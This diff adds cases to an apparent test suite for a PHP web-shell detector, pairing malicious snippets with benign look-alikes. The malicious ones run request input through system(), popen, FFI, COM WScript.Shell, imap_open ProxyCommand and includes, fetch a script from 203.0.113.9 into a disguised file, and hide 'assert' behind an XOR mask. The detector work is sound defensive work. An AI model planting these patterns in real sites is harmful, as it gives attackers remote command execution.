@@ -86,6 +86,12 @@ CASES = [
     ("command_interpreter_process",
      "<?php exec('/bin/sh');",
      "<?php exec('/bin/sh ./scripts/rotate-logs.sh', $out);"),
+    ("command_interpreter_process",
+     "<?php $p = proc_open(['/usr/bin/bash', '-i'], [0 => ['pipe', 'r'], 1 => ['pipe', 'w']], $io);",
+     "<?php $p = proc_open(['/usr/bin/git', 'status'], [1 => ['pipe', 'w']], $io);"),
+    ("command_interpreter_process",
+     "<?php $p = popen('C:\\\\Windows\\\\System32\\\\cmd.exe', 'w'); fwrite($p, $_POST['c']);",
+     "<?php $p = popen('C:\\\\Tools\\\\convert.exe -resize 50% in.png out.png', 'r');"),
     ("embedded_interpreter_eval",
      "<?php $p = new Perl(); $p->eval(\"system('$c')\");",
      "<?php $v8 = new V8Js(); $js = file_get_contents('bundle.js'); $config = json_decode($settings);"),
@@ -140,6 +146,47 @@ CASES = [
      "<?php class Cache { public $hook = ''; function __destruct() { @eval($this->hook); } }\n"
      "$c = unserialize(base64_decode($_COOKIE['c']));",
      "<?php class Conn { function __destruct() { $this->pdo->exec($this->cleanup); } function run() { eval($code); } }"),
+    # Review of session 10's signals: each look-alike below was flagged before the fix.
+    ("embedded_interpreter_eval",
+     "<?php $p = new \\Perl; $p->eval($_POST['c']);",
+     "<?php $lua = new Lua(); $lua->assign('limit', 10); $config = $settings;"),
+    ("remote_script_saved",
+     "<?php copy('http://203.0.113.9/x', 'wp-load-cache.php');",
+     "<?php copy('https://getcomposer.org/installer', 'composer-setup.php'); echo 'downloaded';"),
+    ("ld_preload_set",
+     "<?php putenv(\"LD_PRELOAD=/tmp/hook.so\"); mail('a@b.c', '', '');",
+     "<?php putenv('LD_PRELOAD='); mail($to, $subject, $body);"),
+    ("imap_proxy_command",
+     "<?php $s = 'x -o ProxyCommand=echo\\t' . $_POST['c']; imap_open('{' . $s . ':143/imap}INBOX', '', '');",
+     "<?php $cmd = 'ssh -o ProxyCommand=\"ssh -W %h:%p bastion\" deploy@host uptime'; exec($cmd, $out);"),
+    ("magic_method_runs_property",
+     "<?php class Job { function __destruct() { if ($this->on) { eval($this->code); } } }",
+     "<?php class Stack { function __destruct() { assert($this->stack === []); } }"),
+    ("filter_callback_sink",
+     "<?php filter_var($_REQUEST['x'], FILTER_CALLBACK, array('flags' => 0, 'options' => 'system'));",
+     "<?php $v = filter_var($_POST['x'], FILTER_CALLBACK, array('options' => 'base64_decode'));"),
+    ("tainted_to_callback",
+     "<?php $f = $_GET['f']; spl_autoload_register($f);",
+     "<?php $class = $_GET['class']; echo htmlspecialchars($class);\n"
+     "spl_autoload_register(function ($class) { require __DIR__ . '/src/' . $class . '.php'; });"),
+    ("input_variable_included",
+     "<?php $p = $_GET['p']; include($p);",
+     "<?php $p = $_GET['p']; if (in_array($p, array('a.php', 'b.php'))) { include($p); }"),
+    ("input_variable_included",
+     "<?php $p = urldecode($_COOKIE['p']); include($p);",
+     "<?php $t = $_SESSION['theme']; include($t);"),
+    ("input_written_to_script",
+     "<?php file_put_contents('x.php', file_get_contents('php://input'));",
+     "<?php file_put_contents('settings.php', json_encode($_POST));"),
+    ("com_shell_object",
+     "<?php $sh = new COM('WScript.Shell', null, CP_UTF8); $sh->Run('cmd /c ' . $_POST['c'], 0);",
+     "<?php $word = new COM('Word.Application', null, CP_UTF8); $word->Run('Macro1');"),
+    ("ffi_native_command",
+     "<?php $f = FFI::cdef('typedef int pid_t; int system(const char *c);', 'libc.so.6'); $f->system($_GET['c']);",
+     "<?php $f = FFI::cdef('typedef int pid_t; pid_t getpid(void);', 'libc.so.6'); echo $f->getpid();"),
+    ("tainted_in_backticks",
+     "<?php $c = $_GET['c']; echo `${c}`;",
+     "<?php $name = $_GET['n']; ?><script>var t = `Hello ${name}`;</script>"),
     ("detached_long_run",
      "<?php ignore_user_abort(true); set_time_limit(0); while (true) { sleep(60); }",
      "<?php set_time_limit(0); ignore_user_abort(false); run_backup();"),
@@ -323,3 +370,16 @@ def test_request_chosen_include_is_decisive_only_in_a_small_file():
     large = (snippet + padding).lower()
     assert len(large) > 8192
     assert php.score_php([large]).found["input_variable_included"] == 5
+
+
+def test_xor_of_literals_pairs_whole_literals_only():
+    """A closing quote is never taken for an opening one: the code between two literals that hold a caret
+    stays in the normalised text (a shell could otherwise erase its own call from it)."""
+    benign = "<?php $s = str_replace('x', '^', 'y' . $t);"
+    assert decode.normalise(benign) == benign
+    for shell in ("<?php $m = '^'; system($_GET['c']); $n = ['^', 'z'];",
+                  "<?php $k = \"\\x41\"; $m = '^'; system($_GET['c']); $n = '^'.'z';"):
+        assert "system($_GET['c'])" in decode.normalise(shell)
+    key = "@@@@@@"
+    mask = "".join(chr(ord(a) ^ ord(b)) for a, b in zip("assert", key))
+    assert decode.normalise("<?php $f = '%s' ^ '%s';" % (key, mask)) == "<?php $f = 'assert';"
